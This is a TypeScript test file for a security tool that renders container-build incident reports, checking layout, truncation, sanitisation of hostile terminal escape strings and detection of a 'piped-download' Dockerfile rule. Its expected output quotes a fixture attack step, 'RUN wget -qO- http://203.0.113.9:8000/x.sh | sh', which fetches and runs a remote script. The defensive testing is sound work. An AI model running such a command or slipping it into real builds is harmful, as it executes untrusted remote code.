import { assert, property } from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildkitAttack } from '../correlate/fixtures/stories.js';
import type { Json } from '../model/row.js';
import { anyText } from './fixtures/any-text.js';
import { broken, infected, partsOf } from './fixtures/parts.js';
import { buildsTable, incidentsTable } from './listings.js';
import { paletteFor, plain } from './palette.js';
import { brief, briefs, full } from './parts.js';
import { columnsOf } from './printable.js';
import { textOf } from './render/text.js';
import { buildDocument, incidentDocument } from './report.js';
import { summaryLine } from './summary.js';

const style = { palette: plain, width: 100, isDense: true, textLines: 2 };

describe('the report of an incident', () => {
  const parts = partsOf();
  const lines = textOf(incidentDocument(parts, brief), style);
  const text = lines.join('\n');

  it('says who, with what, step by step, what came out, what ran, and so what', () => {
    for (const part of [
      'HIGH  Incident i-',
      'mallory (uid 1000), logged in as uid 1000',
      'docker build -t evil --build-arg TOKEN=*** /tmp/x',
      'bash (101) → docker (104)',
      '3 ▶ RUN wget -qO- http://203.0.113.9:8000/x.sh | sh',
      "read from the client's disk",
      '→ 203.0.113.9:8000 by wget',
      'exit 0',
      'evil:latest',
      'registry.example/evil:1 pushed',
      'run_60 (003c003c003c) at 2026-11-22 10:00:05 from its image',
      'by mallory: docker run -d evil',
      'High, score 13, confidence high',
      '+3 Built from a temporary directory: /tmp/x.',
      'T1059.004, T1105, T1204.003, T1571, T1610, T1612',
    ]) {
      expect(text).toContain(part);
    }
  });

  it('fits on a screen, and keeps to its width', () => {
    expect(lines.length).toBeLessThan(50);
    for (const width of [72, 100]) {
      for (const line of textOf(incidentDocument(parts, brief), { ...style, width }))
        expect(columnsOf(line)).toBeLessThanOrEqual(width);
    }
  });

  it('stays as short when there is ten times as much, and says what it left out', () => {
    const { built } = parts;
    const [step] = built.steps;
    if (!step) throw new Error('no step');
    const many = <T>(one: T): T[] => Array.from({ length: 300 }, () => one);
    const [process] = step.Processes as Json[];
    const [connection] = step.Connections as Json[];
    const large = {
      ...step,
      Processes: many(process ?? null),
      Connections: many(connection ?? null),
    };
    const Dockerfile = many('RUN true').join('\n');
    const grown = {
      ...parts,
      built: {
        ...built,
        build: { ...built.build, Dockerfile },
        steps: Array.from({ length: 300 }, () => ({ ...large })),
      },
    };
    const shown = textOf(incidentDocument(grown, brief), style);
    expect(shown.length).toBeLessThan(90);
    expect(shown.join('\n')).toContain('296 more steps');
    expect(shown.join('\n')).toContain('… 292 more lines');

    const [briefest = brief] = briefs.slice(-1);
    const { textLines } = briefest;
    const shortest = textOf(incidentDocument(grown, briefest), { ...style, textLines });
    // The playbook's seven lines follow.
    expect(shortest.length).toBeLessThanOrEqual(42);
    expect(shortest.join('\n')).toContain('299 more steps');
  });

  it('has everything else in full', () => {
    const whole = textOf(incidentDocument(parts, full), { ...style, isDense: false }).join('\n');
    for (const part of [
      'Timeline  UTC',
      'GET /info?a=b',
      'wrote /run.sh',
      'some-rule: Title; detail',
      '[temp-path]',
    ])
      expect(whole).toContain(part);
  });

  it('tells what a step left on disk, not what the runtime did to begin it', () => {
    const { built } = partsOf();
    const [file] = built.fileEvents;
    if (!file) throw new Error('the story has no file');
    const ofRuntime = { FolderPath: '/data/rootfs/etc', InitiatingProcessFileName: 'runc' };
    const fileEvents = [file, { ...file, ...ofRuntime }];
    const told = textOf(buildDocument({ ...built, fileEvents }, full), style).join('\n');
    expect(told).toContain('/run.sh');
    expect(told).not.toContain('/data/rootfs');
  });

  it('tells how much was said on connections, where it is known', () => {
    const { built } = parts;
    const [step] = built.steps;
    if (!step) throw new Error('no step');
    const [one] = step.Connections as { [key: string]: Json }[];
    const Connections = [
      { ...one, BytesSent: 90, BytesReceived: 4_200_000 },
      { ...one, BytesSent: 10, BytesReceived: null },
    ];
    const told = buildDocument({ ...built, steps: [{ ...step, Connections }] }, brief);
    expect(textOf(told, style).join('\n')).toContain(
      'by wget, 2 times, received 4.2 MB, sent 100 bytes',
    );
  });

  it('says when the build is not stored any more', () => {
    const bare = textOf(incidentDocument({ ...parts, built: undefined, alerts: [] }, brief), style);
    expect(bare.join('\n')).toContain('not stored any more');
  });

  it('marks the lines of a long Dockerfile that matter, with those around them', () => {
    const { built } = parts;
    const Dockerfile = Array.from({ length: 400 }, (_, i) => `RUN echo ${i + 1}`).join('\n');
    const finding = {
      Rule: 'piped-download',
      Severity: 'High',
      Line: 200,
      Message: 'runs a download',
    };
    const AdditionalFields = {
      ...(built.build.AdditionalFields as object),
      DockerfileFindings: [finding],
    };
    const marked = { ...built, build: { ...built.build, Dockerfile, AdditionalFields } };
    const shown = textOf(buildDocument(marked, brief), style).join('\n');
    expect(shown).toContain(' 199 │ RUN echo 199\n   200 ▶ RUN echo 200\n');
    expect(shown).toContain('^ High: runs a download [piped-download]');
  });
});

describe('hostile strings', () => {
  const all = partsOf(buildkitAttack());

  it('never reach the terminal raw, in any column', () => {
    assert(
      property(anyText(12), (noise) => {
        const hostile = `\u001b[2J\u009b\u202e\n\r${noise}`;
        const parts = infected(all, hostile);
        const { incident, built } = parts;
        const lines = [
          ...textOf(incidentDocument(parts, brief), style),
          ...textOf(incidentDocument(parts, full), { ...style, isDense: false }),
          ...textOf(buildDocument(built, full), style),
          ...buildsTable([built.build], plain, 100),
          ...incidentsTable([incident], plain, 100),
          summaryLine({ table: 'ImageBuilds', row: built.build }, { palette: plain, width: 100 }),
          summaryLine({ table: 'Incidents', row: incident }, { palette: plain }),
          summaryLine({
            table: 'Alerts',
            row: infected(
              { TimeGenerated: 0, AlertId: 'a', Severity: 'High', Detail: 'd', Title: 't' },
              hostile,
            ),
          }),
          summaryLine({
            table: 'SensorEvents',
            row: infected(
              { TimeGenerated: 0, ActionType: 'Gap', Sensor: 'kernel', Reason: 'r' },
              hostile,
            ),
          }),
        ];
        for (const line of lines) expect(line).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
      }),
      { numRuns: 30 },
    );
  });

  it('do not break a report whose columns hold something else than expected', () => {
    for (const junk of [null, 'text', 7, [null, 7, ['x']], { a: [1] }] as Json[]) {
      expect(textOf(incidentDocument(broken(all, junk), full), style).length).toBeGreaterThan(10);
    }
  });
});

describe('listings', () => {
  const { incident, built } = partsOf();
  const { build } = built;

  it('are aligned, and cut to the width', () => {
    const rows = [build, { ...build, AccountName: 'a'.repeat(80), Tags: ['t'.repeat(200)] }];
    const lines = buildsTable(rows, plain, 110);
    for (const line of lines) expect(columnsOf(line)).toBeLessThanOrEqual(110);
    const at = lines[0]?.indexOf('STATE') ?? -1;
    expect(lines.slice(1).map((line) => line.slice(at, at + 9))).toEqual([
      'succeeded',
      'succeeded',
    ]);
    expect(incidentsTable([incident], plain, 90)[1]).toMatch(
      /^2026-11-22 10:00:05 {2}i-\w{12} {2}High/,
    );
  });
});

it('a build that was withdrawn is shown as such, not as one that ended somehow', () => {
  const build = { ...partsOf().built.build, AdditionalFields: { Withdrawn: true } };
  expect(summaryLine({ table: 'ImageBuilds', row: build })).toContain('withdrawn');
  expect(buildsTable([build], plain, 110)[1]).toContain('withdrawn');
});

describe('colour', () => {
  it('is off without a terminal, and when NO_COLOR says so', () => {
    expect(paletteFor({ isTTY: false }, {})).toBe(plain);
    expect(paletteFor({ isTTY: true }, { NO_COLOR: '1' })).toBe(plain);
    expect(paletteFor({ isTTY: true }, { TERM: 'dumb' })).toBe(plain);
    expect(paletteFor({ isTTY: true }, {}).bold('x')).toBe('\u001b[1mx\u001b[22m');
  });
});
